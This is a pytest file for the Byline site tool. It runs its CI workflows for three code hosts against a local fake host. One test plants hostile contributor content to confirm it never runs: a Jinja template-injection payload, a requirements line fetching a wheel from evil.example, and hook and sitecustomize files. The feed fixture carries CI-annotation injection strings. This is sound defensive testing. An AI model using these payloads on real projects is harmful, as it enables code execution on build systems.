"""By itself, at a code host: every shell step of every workflow runs in a clean clone, against a code host on loopback."""

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from code_host import TOKEN, Runner, forge_in, git

from pipeline.cli.init import _new_files, make
from pipeline.post import PROMPT
from pipeline.settings.explained import explained

REPOSITORY = Path(__file__).parents[1]
HOSTS = ("github", "gitlab", "forgejo")
VALUES = {
    "name": "Ana Ruiz",
    "email": "ana@ana-ruiz.example",
    "url": "https://ana-ruiz.example/",
    "line": "What happened.",
    "date": "2026-11-23",
    "file": "2026-11-23-why-i-write-this.md",
}
FEED = """<?xml version="1.0"?><rss version="2.0"><channel><title>One</title><link>https://one.example/</link>
<item><guid>1</guid><title>Rotterdam runs 24 yard cranes from a remote desk</title><link>https://one.example/1</link>
<description>Rotterdam will run its 24 yard cranes from one remote desk, says @everybody: fixes #1 ``` ::error::
</description></item></channel></rss>"""
POST = """---
date: {date}
title: {title}
kind: edition
---
Words of mine on the yard.
"""


@pytest.fixture(scope="module")
def wheel(tmp_path_factory):
    """Byline as a wheel, built once."""
    folder = tmp_path_factory.mktemp("wheel")
    build = [sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", folder]
    subprocess.run(build, cwd=REPOSITORY, check=True, capture_output=True)
    return next(folder.glob("*.whl"))


@pytest.fixture
def forge(tmp_path):
    with forge_in(tmp_path / "forge") as forge:
        yield forge


@pytest.fixture
def begun(tmp_path, forge, web, wheel):
    """A function that puts a new author's site at a code host and gives what runs its workflows."""

    def begin(host, **send):
        site = tmp_path / "home"
        make(site, dict(_new_files(VALUES | {"host": host})))
        values = yaml.safe_load((site / "byline.yml").read_text(encoding="utf-8"))
        web.serve("/one.xml", FEED)
        feeds = [f"{web.url}/one.xml", f"{web.url}/gone.xml"]
        values["pull"]["feeds"] = [{"url": feed, "allow_private": True} for feed in feeds]
        values["send"] |= send
        (site / "byline.yml").write_text(explained(values), encoding="utf-8")
        (site / "requirements.txt").write_text(f"byline @ {wheel.as_uri()}\n", encoding="utf-8")
        git(site, "init", "--quiet")
        commit(site, "The site")
        git(site, "remote", "add", "origin", forge.bare)
        git(site, "push", "--quiet", "origin", "main")
        (tmp_path / "runs").mkdir()
        event = tmp_path / "event.json"
        event.write_text(json.dumps({"pull_request": {"number": 5}}), encoding="utf-8")
        values = {"github.token": TOKEN, "secrets.CODE_HOST_TOKEN": TOKEN, "github.base_ref": "main"}
        return site, Runner(forge, tmp_path / "runs", of_run(host, forge, event, tmp_path), values)

    return begin


def of_run(host, forge, event, folder):
    """What a code host tells a run."""
    if host == "gitlab":
        return {
            "GITLAB_CI": "true",
            "CI_API_V4_URL": f"{forge.url}/api",
            "CI_PROJECT_ID": "7",
            "CI_PROJECT_URL": f"{forge.url}/ana/site",
            "CI_DEFAULT_BRANCH": "main",
            "CI_MERGE_REQUEST_IID": "5",
            "CI_MERGE_REQUEST_DIFF_BASE_SHA": "origin/main",
        }
    return {
        "GITHUB_ACTIONS": "true",
        **({"FORGEJO_ACTIONS": "true"} if host == "forgejo" else {}),
        "GITHUB_API_URL": f"{forge.url}/api",
        "GITHUB_SERVER_URL": forge.url,
        "GITHUB_REPOSITORY": "ana/site",
        "GITHUB_REF_NAME": "main",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_STEP_SUMMARY": str(folder / "summary.md"),
    }


def commit(site, words):
    git(site, "add", "--all")
    git(site, "commit", "--quiet", "-m", words)


def run(runner, host, site, name, jobs=(), branch="main", skip=()):
    """Run one of the four workflows; return the exit code of each job."""
    if host == "gitlab":
        text = (site / ".gitlab-ci.yml").read_text(encoding="utf-8")
        return runner.of_gitlab(text, [job for job in jobs if job not in skip], branch)
    return runner.of_actions((site / f".{host}/workflows/{name}.yml").read_text(encoding="utf-8"), branch, skip)


@pytest.mark.parametrize("host", HOSTS)
def test_the_weekly_run_proposes_a_draft_with_findings_and_previews_once(host, begun, forge):
    site, runner = begun(host)
    for skip in ((), ("draft",) if host != "forgejo" else ()):  # Forgejo's is one job
        assert set(run(runner, host, site, "weekly", ("draft", "propose"), skip=skip).values()) == {0}, runner.said
    [asked] = forge.requests
    branch = asked.get("head") or asked["source_branch"]
    assert forge.branches() == sorted(["main", branch])
    [post] = set(forge.files_of(branch)) - set(forge.files_of("main"))
    assert re.fullmatch(r"content/posts/[\w-]+\.md", post)
    assert PROMPT in git(forge.bare, "show", f"{branch}:{post}")
    body = asked.get("body") or asked["description"]
    assert "no-words" in body
    made = {path.name.partition(".")[2] for path in runner.folder.rglob("*") if path.is_file() and "kept-" in str(path)}
    assert {"page.html", "letter.html", "letter.txt", "letter.eml", "md"} <= made
    assert "is proposed already" in runner.said
    assert TOKEN not in runner.said
    assert git(forge.bare, "log", "-1", "--format=%an", branch) == "Byline\n"


@pytest.mark.parametrize("host", HOSTS)
def test_the_check_comments_what_it_finds_in_changed_posts_in_one_comment(host, begun, forge):
    site, runner = begun(host)
    git(site, "switch", "--quiet", "--create", "words")
    post = site / "content/posts/2026-11-24-cranes.md"
    text = POST.format(date="2026-11-24", title="Cranes") + "\n## [Cranes](https://one.example/1)\n\n> Not what it says.\n"
    post.write_text(text, encoding="utf-8")
    for words in ("begun", "more"):
        post.write_text(post.read_text(encoding="utf-8") + f"\n{words}\n", encoding="utf-8")
        commit(site, words)
        git(site, "push", "--quiet", "origin", "words")
        codes = run(runner, host, site, "check", ("check", "comment"), "words")
        assert codes["check"] == 1
        assert set(codes.values()) <= {0, 1}
    [comment] = forge.comments
    assert "content/posts/2026-11-24-cranes.md" in comment["body"]
    assert "first" not in comment["body"]
    assert [each[0] for each in forge.asked] == ["GET", "POST", "GET", "PUT" if host == "gitlab" else "PATCH"]
    assert TOKEN not in runner.said


@pytest.mark.parametrize("host", HOSTS)
def test_what_strangers_propose_is_read_and_never_run(host, begun, tmp_path):
    """Hooks, templates and what is installed are theirs in their branch: none of it runs."""
    site, runner = begun(host)
    git(site, "switch", "--quiet", "--create", "theirs")
    ran = tmp_path / "ran"
    (site / "hook.py").write_text(f"open({str(ran)!r}, 'w')\n", encoding="utf-8")
    with (site / "mkdocs.yml").open("a", encoding="utf-8") as settings:
        settings.write("\nhooks: [hook.py]\n")
    for template in (site / "overrides").rglob("*.html"):
        bad = "{{ ''.__class__.__base__.__subclasses__ }}{{ cycler.__init__.__globals__.os.mknod('%s') }}" % ran
        template.write_text(bad, encoding="utf-8")
    (site / "requirements.txt").write_text("byline @ https://evil.example/byline.whl\n", encoding="utf-8")
    (site / "sitecustomize.py").write_text(f"open({str(ran)!r}, 'w')\n", encoding="utf-8")
    (site / "content/posts/2026-11-24-x.md").write_text(POST.format(date="2026-11-24", title="X"), encoding="utf-8")
    commit(site, "theirs")
    git(site, "push", "--quiet", "origin", "theirs")
    codes = run(runner, host, site, "check", ("check",), "theirs", skip=("comment",))
    assert codes == {"check": 0}, runner.said
    assert not ran.exists()


@pytest.mark.parametrize("host", HOSTS)
def test_a_merge_is_built_and_put_online(host, begun, forge):
    site, runner = begun(host)
    assert set(run(runner, host, site, "publish", ("pages",)).values()) == {0}, runner.said
    if host == "forgejo":
        run(runner, host, site, "publish")
        assert {"index.html", "feed.xml"} <= set(forge.files_of("pages"))
        assert "byline.yml" not in forge.files_of("pages")
        assert git(forge.bare, "rev-list", "--count", "pages") == "1\n"
    else:
        assert (runner.kept["pages"] / ("public/index.html" if host == "gitlab" else "index.html")).is_file()


@pytest.mark.parametrize("host", HOSTS)
def test_without_a_memory_the_send_job_refuses_and_says_how_to_send_from_home(host, begun, mailbox):
    site, runner = begun(host, smtp={"host": "127.0.0.1", "port": mailbox.port, "security": "none"})
    merge_an_edition(site)
    [code] = run(runner, host, site, "send", ("send",)).values()
    assert code == 2
    assert "DATABASE_URL" in runner.said
    assert "git pull && byline send" in runner.said
    assert mailbox.messages == []


def merge_an_edition(site):
    import datetime

    today = datetime.datetime.now(datetime.UTC).date()
    (site / f"content/posts/{today}-yard.md").write_text(POST.format(date=today, title="Yard"), encoding="utf-8")
    commit(site, "An edition")
    git(site, "push", "--quiet", "origin", "main")


@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("store_url", ["postgresql"], indirect=True)
def test_the_send_job_sends_the_merged_edition_once_however_often_it_runs(host, begun, mailbox, store, store_url):
    from sending import filled

    filled(store_url, 3).close()
    site, runner = begun(host, smtp={"host": "127.0.0.1", "port": mailbox.port, "security": "none"})
    merge_an_edition(site)
    runner.values["secrets.DATABASE_URL"] = store_url
    runner.environment |= {"DATABASE_URL": store_url} if host == "gitlab" else {}
    for _ in range(2):
        assert set(run(runner, host, site, "send", ("send",)).values()) == {0}, runner.said
    assert len(mailbox.messages) == 3
    assert len({to[0] for _, to, _ in mailbox.messages}) == 3


@pytest.mark.parametrize("host", HOSTS)
def test_every_shell_step_of_the_workflows_is_among_those_that_these_tests_run(host, tmp_path):
    """A new job or workflow needs a test."""
    make(tmp_path / "site", dict(_new_files(VALUES | {"host": host})))
    if host == "gitlab":
        jobs = yaml.safe_load((tmp_path / "site/.gitlab-ci.yml").read_text(encoding="utf-8"))
        named = {name for name, job in jobs.items() if isinstance(job, dict) and "script" in job}
        assert named == {"draft", "propose", "check", "comment", "pages", "send"}
    else:
        files = {path.stem for path in (tmp_path / f"site/.{host}/workflows").iterdir()}
        assert files == {"weekly", "check", "publish", "send"}
